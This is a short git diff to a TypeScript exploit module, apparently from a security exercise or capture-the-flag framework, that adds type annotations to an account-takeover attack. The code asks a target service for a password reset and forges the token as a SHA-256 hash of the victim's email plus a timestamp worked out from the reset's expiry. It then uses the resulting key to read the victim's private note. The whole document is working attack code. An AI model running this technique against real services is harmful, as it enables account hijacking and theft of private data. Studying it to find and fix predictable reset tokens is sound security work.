@@ -5,13 +5,15 @@ export default exploit(async ({ target: { url }, victim, say }) => {
   const email = victim.toLowerCase();
   const send = (path: string, body: object) =>
     fetch(url + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
-  const { expires_at } = await (await send('/resets', { email })).json();
+  const begun = await send('/resets', { email });
+  const { expires_at } = (await begun.json()) as { expires_at: string };
   const text = `${email} ${new Date(expires_at).valueOf() - 1000 * 60 * 15}`;
   const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
   const response = await send('/resets/confirm', { email, token: Buffer.from(digest).toString('hex') });
   say(`The program responds with ${response.status}.`);
   if (!response.ok) return undefined;
-  const { key } = await response.json();
+  const { key } = (await response.json()) as { key: string };
   const read = await send('/note/read', { email, key });
-  return (await read.json()).note;
+  const { note } = (await read.json()) as { note?: string };
+  return note;
 });
